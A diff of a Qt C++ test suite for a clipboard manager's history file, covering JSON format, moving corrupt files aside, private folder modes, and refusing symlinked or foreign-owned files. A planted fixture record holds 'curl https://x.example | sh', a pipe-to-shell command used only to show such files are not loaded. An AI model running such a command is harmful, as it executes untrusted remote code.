@@ -1,5 +1,4 @@
-#include "HistoryFile.h"
-#include "TestSupport.h"
+#include "HistoryFixture.h"
 
 #include <QDir>
 #include <QFile>
@@ -17,15 +16,9 @@
 #include <sys/resource.h>
 
 using namespace ondrel;
+using test::textItem;
 
 namespace {
-
-ClipboardItem textItem(const QString& text, double seconds, std::optional<QString> app = std::nullopt,
-                       bool pinned = false)
-{
-    return ClipboardItem::makeText(text, std::move(app), std::nullopt,
-                                   Timestamp::fromSecondsSinceReferenceDate(seconds), pinned);
-}
 
 QStringList corruptCopies(const QString& folder)
 {
@@ -41,48 +34,60 @@ class TestHistoryFile : public QObject
 private Q_SLOTS:
     void init() { test::failOnUnexpectedWarnings(); }
 
+    void exactFormat_data();
     void exactFormat();
-    void onlyTextsAreWritten();
     void roundTrip();
-    void readsFlexibleRecords_data();
-    void readsFlexibleRecords();
+    void reading_data();
+    void reading();
     void firstLaunchCreatesPrivateFolderAndFile();
     void defaultLocationFollowsXdg();
-    void badFilesLoadEmptyAndAreMovedAside_data();
-    void badFilesLoadEmptyAndAreMovedAside();
-    void emptyFileIsNotKept();
-    void folderInPlaceOfFile();
-    void unreadableFile();
+    void notAHistoryFile_data();
+    void notAHistoryFile();
     void unwritableFolderKeepsOldFile();
     void hugeFile();
-    void folderIsMadePrivate();
     void foreignFolderIsNotUsed();
-    void foreignOrLinkedFileIsNotLoaded_data();
-    void foreignOrLinkedFileIsNotLoaded();
     void leftoverTemporaryFilesAreRemoved();
     void fullDiskSaysSoOncePerRunOfFailures();
 };
 
-void TestHistoryFile::exactFormat()
+void TestHistoryFile::exactFormat_data()
 {
-    const QList<ClipboardItem> items{
-        textItem(QStringLiteral("a/b \"q\"\n"), 1.5, QStringLiteral("Editor"), true),
-        textItem(QStringLiteral("ünï"), 0)};
-    QCOMPARE(HistoryFile::encode(items),
-             QByteArray(R"([{"text":"a\/b \"q\"\n","timestamp":1.5,"appName":"Editor","isPinned":true},)"
-                        R"({"text":"ünï","timestamp":0,"isPinned":false}])"));
-    QCOMPARE(HistoryFile::encode({}), QByteArray("[]"));
+    // One entry, and its record as written up to the pin.
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<double>("timestamp");
+    QTest::addColumn<QString>("app"); // empty: none
+    QTest::addColumn<QByteArray>("record");
+    QTest::newRow("escapes") << "a/b \"q\" \\ \n\r\t\b\f\u0001\u001f" << 1.5 << "Editor"
+                             << QByteArray(
+                                    R"({"text":"a\/b \"q\" \\ \n\r\t\b\f\u0001\u001f","timestamp":1.5,)"
+                                    R"("appName":"Editor","isPinned":)");
+    QTest::newRow("other characters as they are")
+        << "ünï ✓ 😀 </script>" << 0.0 << QString()
+        << QByteArray(R"({"text":"ünï ✓ 😀 <\/script>","timestamp":0,"isPinned":)");
+    QTest::newRow("shortest timestamp, quoted app")
+        << "t" << 786000000.123456 << "App \"1\""
+        << QByteArray(R"({"text":"t","timestamp":786000000.123456,"appName":"App \"1\"","isPinned":)");
+    // Long texts are held in the file's form.
+    QTest::newRow("long text") << QStringLiteral("é/\"\\\t\u0001").repeated(1000) << 2.25 << "A"
+                               << R"({"text":")" + QByteArray(R"(é\/\"\\\t\u0001)").repeated(1000) +
+                                      R"(","timestamp":2.25,"appName":"A","isPinned":)";
 }
 
-void TestHistoryFile::onlyTextsAreWritten()
+void TestHistoryFile::exactFormat()
 {
-    QImage image(1, 1, QImage::Format_RGB32);
-    const QList<ClipboardItem> items{
-        ClipboardItem::makeImage(image), ClipboardItem::makeFile(QUrl(QStringLiteral("file:///x"))),
-        textItem(QStringLiteral("1"), 1), textItem(QStringLiteral("2"), 2), textItem(QStringLiteral("3"), 3)};
-    const auto decoded = HistoryFile::decode(HistoryFile::encode(items));
-    QVERIFY(decoded);
-    QCOMPARE(decoded->size(), 3);
+    QFETCH(QString, text);
+    QFETCH(double, timestamp);
+    QFETCH(QString, app);
+    QFETCH(QByteArray, record);
+    ClipboardItem item = textItem(text, timestamp, app.isEmpty() ? std::nullopt : std::optional(app));
+    QCOMPARE(HistoryFile::encode({item}), "[" + record + "false}]");
+    // The pin is written as it is now, not as it was at the first save;
+    // only texts are written.
+    item.setPinned(true);
+    const ClipboardItem image = ClipboardItem::makeImage(test::filledImage(QSize(1, 1), Qt::red));
+    const ClipboardItem file = ClipboardItem::makeFile(QUrl(QStringLiteral("file:///x")));
+    QCOMPARE(HistoryFile::encode({image, item, file, item}), "[" + record + "true}," + record + "true}]");
+    QCOMPARE(HistoryFile::encode({}), QByteArray("[]"));
 }
 
 void TestHistoryFile::roundTrip()
@@ -107,11 +112,14 @@ void TestHistoryFile::roundTrip()
     QCOMPARE(loaded[1].timestamp().toDateTime(), QDateTime(QDate(2001, 1, 1), QTime(0, 0, 1, 500), Qt::UTC));
 }
 
-void TestHistoryFile::readsFlexibleRecords_data()
+void TestHistoryFile::reading_data()
 {
-    QTest::addColumn<QByteArray>("json");
+    // A file found at start, and the entries read from it; -1: it cannot
+    // be read, and is moved aside before anything is written over it.
+    QTest::addColumn<QByteArray>("content");
     QTest::addColumn<int>("count");
     QTest::newRow("empty array") << QByteArray("[]") << 0;
+    QTest::newRow("empty file") << QByteArray() << 0;
     QTest::newRow("unknown members ignored")
         << QByteArray(R"([{"text":"a","timestamp":0,"isPinned":false,"x":[1]}])") << 1;
     QTest::newRow("member order free")
@@ -120,15 +128,47 @@ void TestHistoryFile::readsFlexibleRecords_data()
         << QByteArray(R"([{"text":"a","timestamp":0,"isPinned":false,"appName":null}])") << 1;
     QTest::newRow("pretty printed")
         << QByteArray("[\n  {\n    \"text\" : \"a\", \"timestamp\" : 2, \"isPinned\" : false\n  }\n]") << 1;
+    QTest::newRow("truncated") << QByteArray(R"([{"text":"a","timestamp":0,"isPin)") << -1;
+    QTest::newRow("not json") << QByteArray("hello") << -1;
+    QTest::newRow("object instead of array")
+        << QByteArray(R"({"text":"a","timestamp":0,"isPinned":false})") << -1;
+    QTest::newRow("missing isPinned")
+        << QByteArray(R"([{"text":"good","timestamp":0,"isPinned":false},{"text":"a","timestamp":0}])") << -1;
+    QTest::newRow("missing text") << QByteArray(R"([{"timestamp":0,"isPinned":false}])") << -1;
+    QTest::newRow("missing timestamp") << QByteArray(R"([{"text":"a","isPinned":false}])") << -1;
+    QTest::newRow("timestamp as string")
+        << QByteArray(R"([{"text":"a","timestamp":"0","isPinned":false}])") << -1;
+    QTest::newRow("isPinned as number") << QByteArray(R"([{"text":"a","timestamp":0,"isPinned":1}])") << -1;
+    QTest::newRow("appName as number")
+        << QByteArray(R"([{"text":"a","timestamp":0,"isPinned":false,"appName":5}])") << -1;
+    QTest::newRow("record not an object") << QByteArray(R"(["a"])") << -1;
+    QTest::newRow("timestamp out of range")
+        << QByteArray(R"([{"text":"a","timestamp":1e999,"isPinned":false}])") << -1;
+    QTest::newRow("invalid utf-8") << QByteArray("[{\"text\":\"\xff\",\"timestamp\":0,\"isPinned\":false}]")
+                                   << -1;
 }
 
-void TestHistoryFile::readsFlexibleRecords()
+void TestHistoryFile::reading()
 {
-    QFETCH(QByteArray, json);
+    QFETCH(QByteArray, content);
     QFETCH(int, count);
-    const auto decoded = HistoryFile::decode(json);
-    QVERIFY(decoded);
-    QCOMPARE(decoded->size(), count);
+    QTemporaryDir dir;
+    HistoryFile file(dir.path());
+    QVERIFY(test::writeFile(file.filePath(), content));
+    QCOMPARE(file.load().size(), std::max(count, 0));
+    if (count < 0)
+        QTest::ignoreMessage(
+            QtWarningMsg, QRegularExpression(QStringLiteral("^History file .* could not be read; moved it to "
+                                                            ".*history\\.json\\.corrupt-\\d{8}T\\d{6}Z$")));
+    QVERIFY(file.save({textItem(QStringLiteral("new"), 1)}));
+    const QStringList copies = corruptCopies(dir.path());
+    QCOMPARE(copies.size(), count < 0 ? 1 : 0);
+    if (count < 0)
+        QCOMPARE(test::readFile(dir.filePath(copies.first())), content);
+    QCOMPARE(file.load().size(), 1);
+    // Only once: later saves replace the good file without another copy.
+    QVERIFY(file.save({}));
+    QCOMPARE(corruptCopies(dir.path()), copies);
 }
 
 void TestHistoryFile::firstLaunchCreatesPrivateFolderAndFile()
@@ -144,6 +184,11 @@ void TestHistoryFile::firstLaunchCreatesPrivateFolderAndFile()
     QCOMPARE(test::readFile(file.filePath()), QByteArray(R"([{"text":"x","timestamp":3,"isPinned":false}])"));
     QCOMPARE(QDir(folder).entryList(QDir::Files),
              QStringList{QStringLiteral("history.json")}); // no temporary left
+    // A folder there already with wider modes is narrowed.
+    QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
+                                              QFile::ReadOther | QFile::WriteOther | QFile::ExeOther));
+    QVERIFY(HistoryFile(folder).load().size() == 1);
+    QCOMPARE(test::unixMode(folder), 0700);
 }
 
 void TestHistoryFile::defaultLocationFollowsXdg()
@@ -152,98 +197,62 @@ void TestHistoryFile::defaultLocationFollowsXdg()
     QCOMPARE(HistoryFile::defaultFolder(), home.dataHome() + QStringLiteral("/ondrel"));
 }
 
-void TestHistoryFile::badFilesLoadEmptyAndAreMovedAside_data()
+void TestHistoryFile::notAHistoryFile_data()
 {
-    QTest::addColumn<QByteArray>("content");
-    QTest::newRow("truncated") << QByteArray(R"([{"text":"a","timestamp":0,"isPin)");
-    QTest::newRow("not json") << QByteArray("hello");
-    QTest::newRow("object instead of array") << QByteArray(R"({"text":"a","timestamp":0,"isPinned":false})");
-    QTest::newRow("missing isPinned")
-        << QByteArray(R"([{"text":"good","timestamp":0,"isPinned":false},{"text":"a","timestamp":0}])");
-    QTest::newRow("missing text") << QByteArray(R"([{"timestamp":0,"isPinned":false}])");
-    QTest::newRow("missing timestamp") << QByteArray(R"([{"text":"a","isPinned":false}])");
-    QTest::newRow("timestamp as string") << QByteArray(R"([{"text":"a","timestamp":"0","isPinned":false}])");
-    QTest::newRow("isPinned as number") << QByteArray(R"([{"text":"a","timestamp":0,"isPinned":1}])");
-    QTest::newRow("appName as number")
-        << QByteArray(R"([{"text":"a","timestamp":0,"isPinned":false,"appName":5}])");
-    QTest::newRow("record not an object") << QByteArray(R"(["a"])");
-    QTest::newRow("timestamp out of range")
-        << QByteArray(R"([{"text":"a","timestamp":1e999,"isPinned":false}])");
-    QTest::newRow("invalid utf-8") << QByteArray("[{\"text\":\"\xff\",\"timestamp\":0,\"isPinned\":false}]");
+    QTest::addColumn<QString>("what"); // where the file should be
+    QTest::addColumn<QString>("said"); // why it is not loaded
+    QTest::newRow("folder") << "folder"
+                            << "it is not a regular file";
+    // A link to itself cannot be opened, by root or anyone.
+    QTest::newRow("link to itself") << "loop"
+                                    << "it is a symbolic link";
+    QTest::newRow("link to a file") << "link"
+                                    << "it is a symbolic link";
+    QTest::newRow("unreadable file") << "unreadable"
+                                     << "Permission denied";
+    QTest::newRow("another user's file") << "foreign"
+                                         << "it belongs to another user \\(uid 4242\\)";
 }
 
-void TestHistoryFile::badFilesLoadEmptyAndAreMovedAside()
+void TestHistoryFile::notAHistoryFile()
 {
-    QFETCH(QByteArray, content);
-    QTemporaryDir dir;
-    const QString folder = dir.path() + QStringLiteral("/ondrel");
-    HistoryFile file(folder);
-    QVERIFY(QDir().mkpath(folder));
-    QVERIFY(test::writeFile(file.filePath(), content));
-    QVERIFY(file.load().isEmpty());
-    QTest::ignoreMessage(
-        QtWarningMsg,
-        QRegularExpression(QStringLiteral(
-            "^History file .* could not be read; moved it to .*history\\.json\\.corrupt-\\d{8}T\\d{6}Z$")));
-    QVERIFY(file.save({textItem(QStringLiteral("new"), 1)}));
-    const QStringList copies = corruptCopies(folder);
-    QCOMPARE(copies.size(), 1);
-    QCOMPARE(test::readFile(folder + u'/' + copies.first()), content);
-    QCOMPARE(file.load().size(), 1);
-    // Only once: later saves replace the good file without another copy.
-    QVERIFY(file.save({}));
-    QCOMPARE(corruptCopies(folder).size(), 1);
-}
-
-void TestHistoryFile::emptyFileIsNotKept()
-{
+    QFETCH(QString, what);
+    QFETCH(QString, said);
+    if (what == u"unreadable" && test::runningAsRoot())
+        QSKIP("root reads files of mode 000");
+    if (what == u"foreign" && !test::runningAsRoot())
+        QSKIP("only root can hand a file to another user");
     QTemporaryDir dir;
     HistoryFile file(dir.path());
-    QVERIFY(test::writeFile(file.filePath(), QByteArray()));
+    const QString path = file.filePath();
+    const QString elsewhere = dir.filePath(QStringLiteral("elsewhere.json"));
+    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
+    if (what == u"folder") {
+        QVERIFY(QDir().mkpath(path + QStringLiteral("/inner")));
+    } else if (what == u"loop") {
+        QVERIFY(QFile::link(path, path));
+    } else if (what == u"link") {
+        QVERIFY(test::writeFile(elsewhere, planted));
+        QVERIFY(QFile::link(elsewhere, path));
+    } else {
+        QVERIFY(test::writeFile(path, planted));
+        if (what == u"unreadable")
+            QVERIFY(QFile::setPermissions(path, {}));
+        else
+            QCOMPARE(::chown(QFile::encodeName(path).constData(), 4242, 4242), 0);
+    }
+    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("is not loaded: ") + said + u'$'));
     QVERIFY(file.load().isEmpty());
-    QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
-    QVERIFY(corruptCopies(dir.path()).isEmpty());
-}
-
-void TestHistoryFile::folderInPlaceOfFile()
-{
-    QTemporaryDir dir;
-    HistoryFile file(dir.path());
-    QVERIFY(QDir().mkpath(file.filePath() + QStringLiteral("/inner")));
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(QStringLiteral("is not loaded: it is not a regular file$")));
-    QVERIFY(file.load().isEmpty());
+    // Kept aside for a look, never rewritten as ours; a linked file is untouched.
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
+    QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
     const QStringList copies = corruptCopies(dir.path());
     QCOMPARE(copies.size(), 1);
-    QVERIFY(QFileInfo(dir.path() + u'/' + copies.first() + QStringLiteral("/inner")).isDir());
-    QCOMPARE(file.load().size(), 1);
-}
-
-void TestHistoryFile::unreadableFile()
-{
-    QTemporaryDir dir;
-    HistoryFile file(dir.path());
-    // A link to itself cannot be opened, by root or anyone.
-    QVERIFY(QFile::link(file.filePath(), file.filePath()));
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(QStringLiteral("is not loaded: it is a symbolic link$")));
-    QVERIFY(file.load().isEmpty());
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
-    QCOMPARE(corruptCopies(dir.path()).size(), 1);
-    QVERIFY(QFileInfo(dir.path() + u'/' + corruptCopies(dir.path()).first()).isSymLink());
-
-    if (test::runningAsRoot())
-        QSKIP("root reads files of mode 000");
-    QVERIFY(QFile::setPermissions(file.filePath(), {}));
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(QStringLiteral("is not loaded: Permission denied$")));
-    QVERIFY(file.load().isEmpty());
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({}));
-    QCOMPARE(corruptCopies(dir.path()).size(), 2);
+    const QFileInfo copy(dir.filePath(copies.first()));
+    QCOMPARE(copy.isSymLink(), what == u"loop" || what == u"link");
+    QCOMPARE(copy.isDir(), what == u"folder");
+    QCOMPARE(test::readFile(elsewhere), what == u"link" ? planted : QByteArray());
+    QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
 }
 
 void TestHistoryFile::unwritableFolderKeepsOldFile()
@@ -315,19 +324,6 @@ void TestHistoryFile::hugeFile()
     QCOMPARE(QFileInfo(dir.path() + u'/' + corruptCopies(dir.path()).first()).size(), 100 * (1 << 20) + 10);
 }
 
-void TestHistoryFile::folderIsMadePrivate()
-{
-    QTemporaryDir dir;
-    const QString folder = dir.path() + QStringLiteral("/ondrel");
-    QVERIFY(QDir().mkpath(folder));
-    QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
-                                              QFile::ReadOther | QFile::WriteOther | QFile::ExeOther |
-                                              QFile::ReadGroup | QFile::ExeGroup));
-    HistoryFile file(folder);
-    QVERIFY(file.load().isEmpty());
-    QCOMPARE(test::unixMode(folder), 0700);
-}
-
 void TestHistoryFile::foreignFolderIsNotUsed()
 {
     if (!test::runningAsRoot())
@@ -349,41 +345,6 @@ void TestHistoryFile::foreignFolderIsNotUsed()
     // Neither loaded nor rewritten, and its modes are not ours to change.
     QVERIFY(test::readFile(folder + QStringLiteral("/history.json")).contains("curl"));
     QCOMPARE(test::unixMode(folder), 0777);
-}
-
-void TestHistoryFile::foreignOrLinkedFileIsNotLoaded_data()
-{
-    QTest::addColumn<bool>("link");
-    QTest::newRow("another user's file") << false;
-    QTest::newRow("link to a file") << true;
-}
-
-void TestHistoryFile::foreignOrLinkedFileIsNotLoaded()
-{
-    QFETCH(bool, link);
-    if (!link && !test::runningAsRoot())
-        QSKIP("only root can hand a file to another user");
-    QTemporaryDir dir;
-    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
-    QVERIFY(QDir().mkpath(dir.path() + QStringLiteral("/ondrel")));
-    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
-    const QString elsewhere = dir.path() + QStringLiteral("/elsewhere.json");
-    QVERIFY(test::writeFile(link ? elsewhere : file.filePath(), planted));
-    if (link)
-        QVERIFY(QFile::link(elsewhere, file.filePath()));
-    else
-        QCOMPARE(::chown(QFile::encodeName(file.filePath()).constData(), 4242, 4242), 0);
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(link ? QStringLiteral("is not loaded: it is a symbolic link$")
-                                                 : QStringLiteral("is not loaded: it belongs to another user "
-                                                                  "\\(uid 4242\\)$")));
-    QVERIFY(file.load().isEmpty());
-    // Kept aside for a look, never rewritten as ours; a linked file is untouched.
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
-    QCOMPARE(corruptCopies(dir.path() + QStringLiteral("/ondrel")).size(), 1);
-    QCOMPARE(test::readFile(elsewhere).size(), link ? planted.size() : 0);
-    QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
 }
 
 void TestHistoryFile::leftoverTemporaryFilesAreRemoved()
